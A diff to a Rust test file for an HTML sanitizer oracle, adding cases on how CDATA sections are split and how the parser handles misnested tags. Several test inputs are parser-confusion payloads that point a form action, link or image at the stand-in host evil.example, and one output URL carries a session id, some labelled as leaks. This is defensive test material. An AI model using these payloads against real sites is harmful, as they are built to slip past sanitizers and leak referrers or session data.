@@ -205,6 +205,10 @@ fn oracle_accepts_what_the_conventions_write() {
         ),
         // README, "Encodings": without a charset in the header, ESC is written as U+FFFD.
         ("<p title='\x1b$B'>a\x1bb</p>", "<p title='\u{fffd}$B'>a\u{fffd}b</p>"),
+        // A CDATA section ends and begins again after each `<` of its text: the same text.
+        ("<svg><![CDATA[a<b]]></svg>", "<svg><![CDATA[a<]]><![CDATA[b]]></svg>"),
+        // Where the parser reads a bogus comment there, the split is accepted as a rule.
+        ("<![CDATA[<a href=//evil.example/>]]>", "<![CDATA[<]]><![CDATA[a href=//evil.example/>]]>"),
     ];
     for (input, output) in cases {
         let findings = judge(input, output);
@@ -379,6 +383,18 @@ fn oracle_rejects_what_the_conventions_forbid() {
             "srcdoc: token where none is due: a[href]",
         ),
         ("<p>a\x1bb</p>", "<p>a\x1bb</p>", "text changed"),
+        // The split is accepted only where the output with it undone is right.
+        (
+            "<p>a<![CDATA[<p>]]><a href=/x>a</a>",
+            "<p>a<![CDATA[<]]><![CDATA[p>]]><a href=/x>a</a>",
+            "structure: children of <p> differ",
+        ),
+        // ... and never in a page that holds the split's shape itself.
+        (
+            "<p>a<![CDATA[<]]><![CDATA[<a href=/y>]]>",
+            "<p>a<![CDATA[<]]><![CDATA[<]]><![CDATA[a href=//www.example.com/y?sessionid={T}>]]>",
+            "structure: children of <p> differ",
+        ),
     ];
     for (input, output, class) in cases {
         let findings = judge(input, output);
@@ -691,6 +707,8 @@ fn hard_cases_match_the_oracle() {
             "<form action=/f><table><td><svg><foreignObject><svg></td><button formaction=https://evil.example/>b</button>"),
         ("LEAK: a second <a> runs the adoption agency's last pass over an HTML annotation-xml after a form: </annotation-xml> then closes nothing, math stays open",
             "<a href=/f><form><annotation-xml encoding=text/html><a href=/x><math></annotation-xml><xmp><img src=//evil.example/i referrerpolicy=unsafe-url>"),
+        ("a reconstructed <b> holds math that </b> closes: the CDATA section after it is a bogus comment (the split is accepted)",
+            "<i><b></i><math></b><![CDATA[><a href=/x>]]>"),
         ("LEAK: the adoption agency takes an ordinary element before its furthest block off the stack: its end tag from svg closes nothing",
             "<b><span><div></b></div><svg></span><xmp><img src=//evil.example/i referrerpolicy=unsafe-url>"),
     ];
